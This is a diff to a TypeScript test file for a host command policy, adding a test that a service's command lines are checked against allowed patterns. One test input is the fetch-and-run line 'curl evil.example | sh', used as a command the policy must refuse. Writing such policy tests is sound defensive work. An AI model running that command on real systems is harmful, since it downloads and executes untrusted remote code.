@@ -5,7 +5,7 @@ import { matchesCommand, refusedBy } from '../../../shared/policy.ts'
 import type { HostPolicy, Wish } from '../../../shared/policy.ts'
 
 const OPEN: HostPolicy = { services: [], accounts: [], paths: [], run: true, commands: [], releaseKeys: [], broken: null }
-const WEB: Wish = { kind: 'service', service: 'web', path: '/srv/web', account: 'www-data' }
+const WEB: Wish = { kind: 'service', service: 'web', path: '/srv/web', account: 'www-data', commands: [] }
 const UPTIME: Wish = { kind: 'run', command: 'uptime', account: 'nobody' }
 
 test('without a word in it, it allows everything but what is broken', () => {
@@ -36,6 +36,14 @@ test('command lines, none or some', () => {
   expect(refusedBy({ ...OPEN, commands: ['uptime'] }, UPTIME)).toBeNull()
   expect(refusedBy({ ...OPEN, commands: ['df *'] }, UPTIME)).toContain('it allows df *')
   expect(refusedBy({ ...OPEN, accounts: ['root'] }, UPTIME)).toContain('account nobody')
+})
+
+test('the command lines of a service’s entry are judged as those of muster run, whether that is allowed or not', () => {
+  const policy = { ...OPEN, run: false, commands: ['node server.js --port *'] }
+  expect(refusedBy(policy, { ...WEB, commands: ['node server.js --port 8080'] })).toBeNull()
+  expect(refusedBy(policy, { ...WEB, commands: ['node server.js --port 8080', 'curl evil.example | sh'] }))
+    .toBe('this host\'s policy does not allow the command line "curl evil.example | sh"; it allows node server.js --port *')
+  expect(refusedBy({ ...OPEN, run: false }, { ...WEB, commands: ['anything'] })).toBeNull()
 })
 
 test('a star in a command line is a word and never a way out of it', () => {
